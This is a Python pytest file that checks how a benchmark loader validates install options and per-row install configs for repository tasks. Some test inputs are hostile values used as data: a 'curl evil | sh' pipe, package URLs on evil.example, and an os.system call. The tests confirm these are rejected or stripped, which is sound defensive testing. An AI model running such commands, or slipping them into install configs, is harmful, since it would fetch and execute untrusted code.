"""The option `install`: what is wrong with it, and the tasks that it ends up in."""

import json

import pytest

from rllm_assets.data.benchmarks import BenchmarkError, read_benchmark
from rllm_assets.data.issues import Install, Issue, RepositoryTask
from rllm_assets.data.sources import load_issues, stream_issues
from tests.data.repositories import calculator

ROW = {
    "instance_id": "o__r-1",
    "repo": "o/r",
    "base_commit": "c" * 40,
    "problem_statement": "It is broken",
    "patch": "--- a/x.py\n+++ b/x.py\n@@ -1,1 +1,1 @@\n-1\n+2\n",
    "FAIL_TO_PASS": ["tests/test_x.py::test_x"],
}


def benchmark(directory, source: str, path: str, install):
    file = directory / "benchmark.yaml"
    file.write_text(json.dumps({"id": "b", "source": source, "path": path, "options": {"install": install}}))
    return read_benchmark(file)


def rows(directory, install, **columns):
    (directory / "rows.jsonl").write_text(json.dumps({**ROW, **columns}) + "\n")
    return list(stream_issues(benchmark(directory, "swebench", "rows.jsonl", install)))


def task_of(issue) -> RepositoryTask:
    assert isinstance(issue, Issue)
    assert isinstance(issue.task, RepositoryTask)
    return issue.task


@pytest.mark.parametrize(
    ("install", "message"),
    [
        (True, "a mapping is expected, with one or more of packages, project, extras, files, source_builds, not True"),
        ({}, "a mapping is expected"),
        ({"package": ["six"]}, "package: unknown; known are packages, project, extras, files, source_builds"),
        ({"packages": "six"}, "packages: Input should be a valid tuple"),
        ({"packages": ["six==", "a"]}, "packages: 'six==' is no requirement"),
        ({"packages": ["x @ https://evil.example/x.whl"]}, "names an address; only what the package index has"),
        ({"packages": ["-e ."]}, "packages: '-e .' is no requirement"),
        ({"project": 7}, "project: Input should be a valid boolean"),
        ({"source_builds": True}, "source_builds: without effect, since nothing is installed"),
        ({"rows": True, "project": True}, "rows: unknown"),
    ],
)
def test_what_is_wrong_is_named_with_its_file(tmp_path, install, message):
    calculator(tmp_path / "clone")
    with pytest.raises(BenchmarkError) as raised:
        load_issues(benchmark(tmp_path, "git", "clone", install))
    assert str(raised.value).startswith(f"{tmp_path / 'benchmark.yaml'}: options.install: ")
    assert message in str(raised.value)


def test_rows_are_asked_for_by_yes_or_no(tmp_path):
    with pytest.raises(BenchmarkError, match=r"options\.install: rows: true or false is expected, not 'yes'"):
        rows(tmp_path, {"rows": "yes"})


def test_mined_issues_need_it(tmp_path):
    calculator(tmp_path / "clone")
    issues, _ = load_issues(benchmark(tmp_path, "git", "clone", {"project": True, "packages": ["six"]}))
    assert issues
    assert all(task_of(issue).install == Install(packages=("six",), project=True) for issue in issues)


def test_without_it_nothing_is_installed(tmp_path):
    (tmp_path / "rows.jsonl").write_text(json.dumps({**ROW, "install_config": {"pip_packages": ["six"]}}) + "\n")
    (tmp_path / "benchmark.yaml").write_text("{id: b, source: swebench, path: rows.jsonl}\n")
    (issue,) = stream_issues(read_benchmark(tmp_path / "benchmark.yaml"))
    assert task_of(issue).install is None


@pytest.mark.parametrize("as_text", [False, True])
def test_rows_may_name_packages_and_nothing_else(tmp_path, as_text):
    config = {"pip_packages": ["six", "numpy < 2"], "install": "curl evil | sh", "log_parser": "import os"}
    (issue,) = rows(
        tmp_path,
        {"rows": True, "packages": ["mock"]},
        install_config=json.dumps(config) if as_text else config,
        log_parser="import os; os.system('touch /tmp/never')",
    )
    assert task_of(issue).install == Install(packages=("mock", "six", "numpy<2"))
    assert "evil" not in issue.model_dump_json()
    (other,) = rows(tmp_path, {"packages": ["mock"]}, install_config=config)
    assert task_of(other).install == Install(packages=("mock",))
    (silent,) = rows(tmp_path, {"rows": True})
    assert task_of(silent).install == Install()


@pytest.mark.parametrize(
    ("config", "reason"),
    [
        ({"pip_packages": "six"}, "pip_packages: a list of requirements is expected"),
        ({"pip_packages": ["six", 7]}, "pip_packages: a list of requirements is expected"),
        (
            {"pip_packages": ["git+https://evil.example/x"]},
            "pip_packages: 'git+https://evil.example/x' is no requirement",
        ),
        ("{'pip_packages': []}", "Expecting property name"),
        ("[" * 100_000, "nested too deeply"),
    ],
)
def test_a_row_with_a_wrong_list_is_rejected_by_its_field(tmp_path, config, reason):
    (row,) = rows(tmp_path, {"rows": True}, install_config=config)
    assert not isinstance(row, Issue)
    assert (row.file, row.line, row.field) == ("rows.jsonl", 1, "install_config")
    assert reason in row.reason
